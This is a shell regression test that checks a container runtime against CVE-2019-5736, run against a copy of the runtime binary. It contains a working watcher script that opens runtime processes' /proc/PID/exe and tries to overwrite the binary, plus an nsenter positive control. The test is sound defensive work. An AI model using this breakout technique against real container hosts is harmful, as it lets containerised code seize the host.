#!/bin/bash
# CVE-2019-5736: a container must never be able to overwrite the host's runtime binary.
#
# The attack: while the runtime's own process is inside the container's pid namespace (the init
# of a container waiting for `start`, or the helper of `exec` before it execs the user's command),
# a process in the container opens /proc/PID/exe. On a vulnerable runtime that is the host binary;
# once the runtime's host processes have exited (no more ETXTBSY) the attacker reopens the fd
# through /proc/self/fd/N for writing and replaces the runtime. Patched runtimes make their
# processes non-dumpable and run from a sealed memfd copy, a private overlay or a read-only bind
# mount of the binary (runc 1.1.5 uses the latter), so the open fails or gives something that
# cannot be written.
#
# The test runs a COPY of the runtime binary as RUNTIME and starts a "watcher" container whose
# process keeps scanning /proc for processes it did not start, holds their exe open and keeps
# trying `echo PWNED >> /proc/self/fd/N`. Two ways bring the runtime's process into its view:
#   1. `exec` into the watcher container (a race: the helper is visible for a short while);
#   2. `create` of a second container that joins the watcher's pid namespace: its init waits
#      for `start`, so the watcher sees it deterministically.
# After every runtime process has exited, the watcher makes a final write attempt. The copied
# binary's sha256 must be unchanged and no write may have succeeded. It runs with the default
# capabilities and with CAP_SYS_PTRACE added (which defeats the non-dumpable defence, so only a
# real copy or seal of the binary protects it). A positive control first proves that the watcher
# does catch and overwrite a writable binary running in its pid namespace.
source "$(dirname "$0")/../lib.sh"
require_root

# Run a private copy of the runtime so that a vulnerable runtime only damages the copy.
mkdir -p "$TMP/bin"
cp "$RUNTIME" "$TMP/bin/$RUNTIME_NAME"
RUNTIME=$TMP/bin/$RUNTIME_NAME
sha_before=$(sha256sum "$RUNTIME" | cut -d' ' -f1)
host_id=$(stat -c %d:%i "$RUNTIME")

B=$TMP/bundle
make_bundle "$B" || exit 1

# The watcher, run as the watcher container's process. Fds 3-9 hold what it opens.
cat >"$TMP/watch.sh" <<'WATCHER'
log=/shared/log
seen=" 1 $$ "
held=""
next=3
try_writes() {
	for n in $held; do
		if { command echo PWNED >>/proc/self/fd/$n; } 2>/dev/null; then
			echo "WROTE fd=$n target=$(readlink /proc/self/fd/$n)" >>$log
		fi
	done
}
touch /shared/ready
while :; do
	for d in /proc/[0-9]*; do
		p=${d#/proc/}
		case "$seen" in *" $p "*) continue ;; esac
		seen="$seen$p "
		[ $next -le 9 ] || continue
		if { command eval "exec $next<\"\$d/exe\""; } 2>/dev/null; then
			# The container's own programs are all busybox; anything else is the runtime. A file
			# already held is not held twice.
			keep=yes
			for n in $held; do
				[ /proc/self/fd/$next -ef /proc/self/fd/$n ] && keep=no
			done
			[ /proc/self/fd/$next -ef /bin/busybox ] && keep=no
			if [ $keep = no ]; then
				eval "exec $next<&-"
				echo "known pid=$p" >>$log
				continue
			fi
			echo "opened pid=$p fd=$next id=$(stat -L -c %d:%i /proc/self/fd/$next) target=$(readlink /proc/self/fd/$next)" >>$log
			held="$held $next"
			next=$((next + 1))
		elif [ -e "$d" ]; then
			echo "denied pid=$p" >>$log
		fi
	done
	try_writes
	if [ -e /shared/final ]; then
		try_writes
		echo finished >>$log
		touch /shared/done
		exec sleep 1000
	fi
done
WATCHER

# nspid HOSTPID — the pid of HOSTPID in its innermost pid namespace.
nspid() {
	awk '/^NSpid:/ { print $NF }' "/proc/$1/status" 2>/dev/null
}

# attempt NAME EXTRA_CAPS MODE — one round with a fresh watcher container. MODE "runtime" brings
# the runtime's processes into the watcher's view; MODE "control" instead runs a fake vulnerable
# "runtime" (a copy of a host binary entered into the pid namespace with nsenter) to prove that
# the watcher detects a writable binary.
attempt() {
	local name=$1 caps=$2 mode=$3
	local shared=$TMP/shared-$1 W=$TMP/bundle-watch-$1 V=$TMP/bundle-victim-$1
	local wid vid wpid vpid log sha fake_pid target=$RUNTIME
	mkdir -p "$shared"
	cp "$TMP/watch.sh" "$shared/watch.sh"
	copy_bundle "$B" "$W"
	edit_config "$W" '
c["process"]["args"] = ["sh", "/shared/watch.sh"]
c["mounts"].append({"destination": "/shared", "type": "bind", "source": argv[0], "options": ["rbind", "rw"]})
for k in ("bounding", "effective", "permitted"):
    c["process"]["capabilities"][k] += argv[1].split()' "$shared" "$caps"
	wid=$(cid "watch-$name")
	rt run -d --pid-file "$TMP/$name.pid" --bundle "$W" "$wid" </dev/null >/dev/null 2>"$TMP/$name.err"
	wpid=$(cat "$TMP/$name.pid" 2>/dev/null)
	if ! check "$name: watcher container is watching" wait_until 30 test -e "$shared/ready"; then
		_indent "$(cat "$TMP/$name.err")"
		return
	fi

	if [ "$mode" = control ]; then
		# A host binary that is not the container's busybox, running inside the watcher's pid
		# namespace until the watcher has opened it (bounded at 10s).
		target=$TMP/control/busybox
		mkdir -p "$TMP/control"
		cp "$(command -v busybox)" "$target"
		nsenter --target "$wpid" --pid -- "$target" sh -c \
			"i=0; while [ ! -e $shared/release ] && [ \$i -lt 200 ]; do usleep 50000; i=\$((i+1)); done" &
		fake_pid=$!
		wait_until 30 grep -q '^opened' "$shared/log"
		touch "$shared/release"
		wait "$fake_pid"
	else
		# 1. exec into the watcher container (each is a race the watcher may win).
		for _ in 1 2 3 4; do
			rt exec "$wid" true </dev/null >/dev/null 2>&1
		done
		# 2. a container whose init joins the watcher's pid namespace and waits for `start`.
		copy_bundle "$B" "$V"
		edit_config "$V" '
c["process"]["args"] = ["true"]
for n in c["linux"]["namespaces"]:
    if n["type"] == "pid":
        n["path"] = "/proc/%s/ns/pid" % argv[0]' "$wpid"
		vid=$(cid "victim-$name")
		rt create --pid-file "$TMP/$name-victim.pid" --bundle "$V" "$vid" \
			</dev/null >/dev/null 2>"$TMP/$name-victim.err"
		vpid=$(cat "$TMP/$name-victim.pid" 2>/dev/null)
		if [ -n "$vpid" ]; then
			# Let the watcher look at the waiting init (pid $(nspid) in its namespace).
			check "$name: the watcher saw the waiting init of a container joining its pid namespace" \
				wait_until 30 grep -Eq "pid=$(nspid "$vpid")( |\$)" "$shared/log"
			rt start "$vid" </dev/null >/dev/null 2>&1
			wait_until 30 status_is "$vid" stopped
		else
			_not_ok "$name: create of a container joining the watcher's pid namespace"
			_indent "$(cat "$TMP/$name-victim.err")"
		fi
		rt delete --force "$vid" >/dev/null 2>&1
	fi

	# No runtime process is running now, so the binary is not busy: a last write attempt.
	touch "$shared/final"
	check "$name: watcher made its final write attempt" wait_until 20 test -e "$shared/done"
	log=$(cat "$shared/log" 2>/dev/null)
	_indent "$log"
	sha=$(sha256sum "$target" | cut -d' ' -f1)
	if [ "$mode" = control ]; then
		check_contains "$name: the watcher detects a writable binary (positive control)" WROTE "$log"
		check_ne "$name: ... and really changed it" \
			"$(sha256sum "$(command -v busybox)" | cut -d' ' -f1)" "$sha"
	else
		check_not_contains "$name: no write to a runtime process's exe succeeded" WROTE "$log"
		check_eq "$name: the host runtime binary is unchanged" "$sha_before" "$sha"
		grep -q "^opened" <<<"$log" ||
			echo "# $name: the watcher could not open a runtime process's exe (non-dumpable)"
		grep -q "id=$host_id " <<<"$log" &&
			echo "# $name: a runtime process ran the host binary's inode (read-only bind mount?)"
	fi
	rt delete --force "$wid" >/dev/null 2>&1
}

attempt control "CAP_SYS_PTRACE" control
attempt default "" runtime
attempt ptrace "CAP_SYS_PTRACE" runtime

check "the runtime binary copy still runs" "$RUNTIME" --version
finish
